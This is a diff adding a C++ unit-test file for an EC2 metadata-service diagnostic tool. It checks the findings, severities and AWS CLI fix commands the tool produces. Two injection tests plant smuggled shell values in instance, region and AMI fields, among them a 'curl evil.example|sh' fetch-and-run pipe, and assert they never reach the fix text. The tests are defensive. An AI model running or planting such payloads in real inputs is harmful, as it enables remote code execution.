@@ -1,0 +1,411 @@
+// Findings: what is wrong, how bad, and the exact command that fixes it.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+#include "builders.hpp"
+#include "expect.hpp"
+#include "inference.hpp"
+#include "render.hpp"
+
+namespace imds {
+namespace {
+
+using namespace imds::test;
+
+bool contains(const std::string& haystack, std::string_view needle) {
+  return haystack.find(needle) != std::string::npos;
+}
+
+Diagnosis with_expectations(Diagnosis d, std::initializer_list<const char*> expectations) {
+  for (const char* text : expectations) {
+    const auto error = parse_expectation(text, d.expectations);
+    EXPECT_EQ(error, std::nullopt) << text;
+  }
+  return finish(std::move(d));
+}
+
+TEST(Findings, HealthyInstanceHasNoWarningsAndExitsZero) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  for (const auto& f : d.findings) {
+    EXPECT_LT(f.severity, Severity::warning) << f.id << ": " << f.summary;
+  }
+  EXPECT_TRUE(is_healthy(d));
+  EXPECT_EQ(exit_code(d), kExitHealthy);
+}
+
+TEST(Findings, OptionalTokensAreAWarningWithTheFilledInFixAndTheAmiRoute) {
+  World w;
+  w.hop_limit = 2;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  const Finding* f = find_finding(d, "tokens-optional");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::warning);
+  EXPECT_TRUE(contains(f->summary, "SSRF")) << f->summary;
+  // Hop limit 2 already serves the container: the fix only switches tokens.
+  EXPECT_TRUE(contains(f->fix,
+                       "aws ec2 modify-instance-metadata-options --instance-id i-0123456789abcdef0 "
+                       "--region us-east-1 --http-tokens required --http-endpoint enabled\n"))
+      << f->fix;
+  EXPECT_TRUE(contains(f->fix, "aws ec2 modify-image-attribute --image-id ami-0abcdef1234567890 "
+                               "--region us-east-1 --imds-support v2.0"))
+      << f->fix;
+  EXPECT_TRUE(contains(f->fix, "aws ec2 register-image ... --imds-support v2.0")) << f->fix;
+  EXPECT_EQ(exit_code(d), kExitFindings);
+}
+
+TEST(Findings, SwitchingToRequiredAlsoRaisesTheHopLimitTheContainersNeed) {
+  World w;  // optional, hop limit 1
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}, {"dind", 2}});
+  const Finding* f = find_finding(d, "tokens-optional");
+  ASSERT_NE(f, nullptr);
+  EXPECT_TRUE(contains(f->fix, "--http-tokens required --http-put-response-hop-limit 3 "
+                               "--http-endpoint enabled"))
+      << f->fix;
+}
+
+TEST(Findings, RequiredTokensAndHopLimitOneMakeBridgeContainersAnErrorWithSdkConsequences) {
+  World w;
+  w.tokens = HttpTokens::required;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  const Finding* f = find_finding(d, "container-no-token", "c1");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::error);
+  EXPECT_TRUE(contains(f->detail, "get 401")) << f->detail;
+  for (const char* sdk : {"botocore", "Go SDK v2", "JS SDK v3", "Java SDK v2"}) {
+    EXPECT_TRUE(contains(f->detail, sdk)) << sdk;
+  }
+  EXPECT_TRUE(contains(f->detail, "Predicted")) << f->detail;
+  EXPECT_TRUE(contains(f->fix, "--instance-id i-0123456789abcdef0 --region us-east-1 "
+                               "--http-put-response-hop-limit 2 --http-endpoint enabled"))
+      << f->fix;
+  EXPECT_FALSE(is_healthy(d));
+}
+
+TEST(Findings, OptionalTokensMakeBridgeContainersAWarningAboutSlowFallback) {
+  World w;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  const Finding* f = find_finding(d, "container-no-token", "c1");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::warning);
+  EXPECT_TRUE(contains(f->detail, "fall back to IMDSv1")) << f->detail;
+  EXPECT_TRUE(contains(f->detail, "about 4 s")) << f->detail;
+  EXPECT_FALSE(contains(f->detail, "get 401")) << f->detail;
+}
+
+TEST(Findings, UnknownTokensDescribeBothSdkOutcomes) {
+  World w;
+  w.probe_v1 = false;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  const Finding* f = find_finding(d, "container-no-token", "c1");
+  ASSERT_NE(f, nullptr);
+  EXPECT_TRUE(contains(f->detail, "If HttpTokens is optional")) << f->detail;
+  EXPECT_TRUE(contains(f->detail, "If it is required")) << f->detail;
+}
+
+TEST(Findings, DockerInDockerNeedsHopLimitThree) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}, {"dind", 2}});
+  EXPECT_EQ(find_finding(d, "container-no-token", "c1"), nullptr);
+  const Finding* f = find_finding(d, "container-no-token", "dind");
+  ASSERT_NE(f, nullptr);
+  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 3")) << f->fix;
+  // The AMI route gives 2, which would not help here.
+  EXPECT_FALSE(contains(f->fix, "imds-support")) << f->fix;
+}
+
+TEST(Findings, HopLimitLargerThanTheDeepestContainerNeedsIsANotice) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 5;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  const Finding* f = find_finding(d, "hop-limit-excess");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::notice);
+  EXPECT_TRUE(contains(f->summary, "hop limit 5")) << f->summary;
+  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 2")) << f->fix;
+  EXPECT_TRUE(is_healthy(d));
+}
+
+TEST(Findings, HopLimitTwoWithoutContainersIsNotExcess) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  EXPECT_EQ(find_finding(world_diagnosis(w), "hop-limit-excess"), nullptr);
+  w.hop_limit = 3;
+  EXPECT_NE(find_finding(world_diagnosis(w), "hop-limit-excess"), nullptr);
+}
+
+TEST(Findings, MalformedInstanceIdNeverReachesFixCommand) {
+  World w;
+  w.instance_id = "i-0123456789abcdef0 --dry-run; curl evil.example|sh";
+  w.region = "us-east-1 --endpoint-url http://evil.example";
+  w.ami_id = "ami-0abcdef1234567890`id`";
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  ASSERT_FALSE(d.findings.empty());
+  bool any_fix = false;
+  for (const auto& f : d.findings) {
+    if (f.fix.empty()) continue;
+    any_fix = true;
+    EXPECT_FALSE(contains(f.fix, "evil")) << f.fix;
+    EXPECT_FALSE(contains(f.fix, "`")) << f.fix;
+    if (contains(f.fix, "modify-instance-metadata-options")) {
+      EXPECT_TRUE(contains(f.fix, "--instance-id <instance-id> --region <region>")) << f.fix;
+    }
+    if (contains(f.fix, "modify-image-attribute")) {
+      EXPECT_TRUE(contains(f.fix, "--image-id <ami-id>")) << f.fix;
+    }
+  }
+  EXPECT_TRUE(any_fix);
+}
+
+TEST(Findings, AForgedInferenceCannotSmuggleTextIntoFixCommands) {
+  World w;
+  Diagnosis d = diagnosis({observe_host(w)}, w);
+  d.inference = infer(d);
+  d.inference.instance.instance_id = "i-01234567; reboot";
+  d.findings = make_findings(d);
+  const Finding* f = find_finding(d, "tokens-optional");
+  ASSERT_NE(f, nullptr);
+  EXPECT_FALSE(contains(f->fix, "reboot")) << f->fix;
+}
+
+TEST(Findings, RefusedHostMeansNotOnEc2AndExitsThree) {
+  Diagnosis d = finish(diagnosis({cut_off(host_target(), Outcome::refused)}));
+  const Finding* f = find_finding(d, "endpoint-unreachable");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::error);
+  EXPECT_TRUE(contains(f->detail, "not an EC2 instance")) << f->detail;
+  EXPECT_EQ(exit_code(d), kExitUnreachable);
+  // Nothing else can be said about options that could not be observed.
+  EXPECT_EQ(find_finding(d, "tokens-optional"), nullptr);
+  EXPECT_EQ(find_finding(d, "container-no-token"), nullptr);
+}
+
+TEST(Findings, BlackholeAndFirewallAreNamedAsSuch) {
+  Diagnosis d = finish(diagnosis({cut_off(host_target(), Outcome::unreachable)}));
+  EXPECT_TRUE(contains(find_finding(d, "endpoint-unreachable")->detail, "blackhole"));
+  d = finish(diagnosis({cut_off(host_target(), Outcome::timeout)}));
+  EXPECT_TRUE(contains(find_finding(d, "endpoint-unreachable")->detail, "firewall DROP"));
+  EXPECT_EQ(exit_code(d), kExitUnreachable);
+}
+
+TEST(Findings, DisabledEndpointIsAWarningWithTheCommandToEnableIt) {
+  World w;
+  w.endpoint_enabled = false;
+  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
+  const Finding* f = find_finding(d, "endpoint-disabled");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::warning);
+  EXPECT_TRUE(contains(f->fix, "--http-endpoint enabled")) << f->fix;
+  EXPECT_EQ(find_finding(d, "container-no-token"), nullptr);
+  EXPECT_EQ(exit_code(d), kExitFindings);
+}
+
+TEST(Findings, ExpectedDisabledEndpointIsOnlyInformation) {
+  World w;
+  w.endpoint_enabled = false;
+  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"endpoint=disabled"});
+  EXPECT_EQ(find_finding(d, "endpoint-disabled")->severity, Severity::info);
+  EXPECT_EQ(find_finding(d, "policy-endpoint"), nullptr);
+  EXPECT_EQ(exit_code(d), kExitHealthy);
+}
+
+TEST(Findings, BlackholedContainerIsANoticeNotAFailure) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  const Diagnosis d =
+      finish(diagnosis({observe_host(w), cut_off(target("task", 1), Outcome::unreachable)}, w));
+  const Finding* f = find_finding(d, "container-unreachable", "task");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::notice);
+  EXPECT_EQ(find_finding(d, "container-no-token", "task"), nullptr);
+  EXPECT_TRUE(is_healthy(d));
+}
+
+TEST(Findings, ProxyVariableWithoutNoProxyIsFlaggedWithTheExport) {
+  Diagnosis d = diagnosis({observe_host(World{})});
+  d.proxy.variable = "https_proxy";
+  d = finish(std::move(d));
+  const Finding* f = find_finding(d, "proxy-captures-imds");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::warning);
+  EXPECT_TRUE(contains(f->fix, "export no_proxy=\"169.254.169.254,fd00:ec2::254")) << f->fix;
+  EXPECT_EQ(d.inference.proxy_warnings, std::vector<std::string>{"https_proxy"});
+
+  d.proxy.no_proxy_covers_imds = true;
+  d = finish(std::move(d));
+  EXPECT_EQ(find_finding(d, "proxy-captures-imds"), nullptr);
+}
+
+TEST(Findings, ThrottledAnswersAreReportedAndTheEndpointStillCountsAsEnabled) {
+  World w;
+  TargetObservations host = observe_host(w);
+  host.observations.push_back(observation(Step::v1_get, http(429)));
+  host.observations.push_back(observation(Step::v1_get, http(503)));
+  const Diagnosis d = finish(diagnosis({std::move(host)}, w));
+  EXPECT_EQ(d.inference.endpoint, EndpointState::enabled);
+  const Finding* f = find_finding(d, "throttled");
+  ASSERT_NE(f, nullptr);
+  EXPECT_TRUE(contains(f->summary, "2 of")) << f->summary;
+}
+
+TEST(Findings, HostWithoutTokenIsAnErrorThatBlamesNotTheHopLimit) {
+  TargetObservations host = host_target();
+  host.observations.push_back(observation(Step::token_put, failed(Outcome::timeout, true)));
+  host.observations.push_back(observation(Step::v1_get, http(401)));
+  const Diagnosis d = finish(diagnosis({std::move(host)}));
+  const Finding* f = find_finding(d, "host-no-token");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::error);
+  EXPECT_TRUE(contains(f->detail, "cannot cause this")) << f->detail;
+}
+
+TEST(Findings, FindingsComeWorstFirst) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 5;
+  w.probe_v1 = false;
+  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
+  d.proxy.variable = "http_proxy";
+  d = finish(std::move(d));
+  ASSERT_GE(d.findings.size(), 3u);
+  EXPECT_TRUE(std::is_sorted(d.findings.begin(), d.findings.end(),
+                             [](const Finding& a, const Finding& b) {
+                               return a.severity > b.severity;
+                             }));
+}
+
+// ---- Policy ----
+
+TEST(Policy, ExpectImdsSupportV2FlagsHopLimitOne) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 1;
+  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"imds-support=v2.0"});
+  const Finding* f = find_finding(d, "policy-hop-limit");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::error);
+  EXPECT_TRUE(contains(f->summary, "hop limit is 1 (packet-ttl), expected 2")) << f->summary;
+  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 2")) << f->fix;
+  EXPECT_EQ(find_finding(d, "policy-http-tokens"), nullptr);
+  EXPECT_EQ(exit_code(d), kExitFindings);
+}
+
+TEST(Policy, ExpectImdsSupportV2IsMetByRequiredAndHopLimitTwo) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"imds-support=v2.0"});
+  EXPECT_TRUE(is_healthy(d));
+}
+
+TEST(Policy, ExpectRequiredTokensFlagsOptionalWithTheFix) {
+  World w;
+  w.hop_limit = 2;
+  const Diagnosis d =
+      with_expectations(diagnosis({observe_host(w)}, w), {"http-tokens=required"});
+  const Finding* f = find_finding(d, "policy-http-tokens");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::error);
+  EXPECT_TRUE(contains(f->fix, "--http-tokens required")) << f->fix;
+}
+
+TEST(Policy, ExpectedOptionalTokensTurnTheSsrfWarningIntoANotice) {
+  World w;
+  w.hop_limit = 2;
+  const Diagnosis d =
+      with_expectations(diagnosis({observe_host(w)}, w), {"http-tokens=optional"});
+  EXPECT_EQ(find_finding(d, "tokens-optional")->severity, Severity::notice);
+  EXPECT_TRUE(is_healthy(d));
+}
+
+TEST(Policy, ExpectRequiredWithoutV1ProbeCannotBeVerified) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  w.probe_v1 = false;
+  const Diagnosis d =
+      with_expectations(diagnosis({observe_host(w)}, w), {"http-tokens=required"});
+  const Finding* f = find_finding(d, "policy-http-tokens");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::warning);
+  EXPECT_TRUE(contains(f->summary, "cannot verify")) << f->summary;
+  EXPECT_TRUE(contains(f->detail, "--no-v1")) << f->detail;
+}
+
+TEST(Policy, LowerBoundFromAContainerSatisfiesAtLeastTwo) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 3;
+  w.packet_ttl = false;
+  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
+  d = with_expectations(std::move(d), {"hop-limit=>=2"});
+  EXPECT_EQ(find_finding(d, "policy-hop-limit"), nullptr);
+}
+
+TEST(Policy, LowerBoundAloneCannotVerifyAnExactHopLimit) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 3;
+  w.packet_ttl = false;
+  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
+  d = with_expectations(std::move(d), {"hop-limit=2"});
+  const Finding* f = find_finding(d, "policy-hop-limit");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::warning);
+  EXPECT_TRUE(contains(f->detail, ">= 2 (bounds)")) << f->detail;
+}
+
+TEST(Policy, UpperBoundBelowTheMinimumIsAMismatchEvenWithoutExactValue) {
+  World w;
+  w.packet_ttl = false;  // hop limit 1, proven <= 1 by the container's timed-out PUT
+  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
+  d = with_expectations(std::move(d), {"hop-limit=>=2"});
+  const Finding* f = find_finding(d, "policy-hop-limit");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::error);
+}
+
+TEST(Policy, UnknownIpv6AndTagsCannotBeVerifiedAndMismatchesAreErrors) {
+  World w;
+  w.tokens = HttpTokens::required;
+  w.hop_limit = 2;
+  Diagnosis d = diagnosis({observe_host(w)}, w);
+  d = with_expectations(std::move(d), {"ipv6=enabled", "tags=enabled"});
+  const Finding* ipv6 = find_finding(d, "policy-ipv6");
+  ASSERT_NE(ipv6, nullptr);
+  EXPECT_EQ(ipv6->severity, Severity::error);
+  EXPECT_TRUE(contains(ipv6->fix, "--http-protocol-ipv6 enabled")) << ipv6->fix;
+  const Finding* tags = find_finding(d, "policy-tags");
+  ASSERT_NE(tags, nullptr);
+  EXPECT_TRUE(contains(tags->fix, "--instance-metadata-tags enabled")) << tags->fix;
+
+  TargetObservations host = host_target();
+  host.observations.push_back(observation(Step::token_put, token(2)));
+  Diagnosis unknown = diagnosis({std::move(host)});
+  unknown = with_expectations(std::move(unknown), {"ipv6=enabled", "tags=disabled"});
+  EXPECT_EQ(find_finding(unknown, "policy-ipv6")->severity, Severity::warning);
+  EXPECT_EQ(find_finding(unknown, "policy-tags")->severity, Severity::warning);
+}
+
+TEST(Policy, UnreachableEndpointCannotVerifyAnything) {
+  Diagnosis d = diagnosis({cut_off(host_target(), Outcome::refused)});
+  d = with_expectations(std::move(d), {"imds-support=v2.0", "endpoint=enabled"});
+  for (const char* id : {"policy-http-tokens", "policy-hop-limit", "policy-endpoint"}) {
+    const Finding* f = find_finding(d, id);
+    ASSERT_NE(f, nullptr) << id;
+    EXPECT_EQ(f->severity, Severity::warning) << id;
+    EXPECT_TRUE(contains(f->summary, "cannot verify")) << f->summary;
+  }
+  EXPECT_EQ(exit_code(d), kExitUnreachable);
+}
+
+}  // namespace
+}  // namespace imds
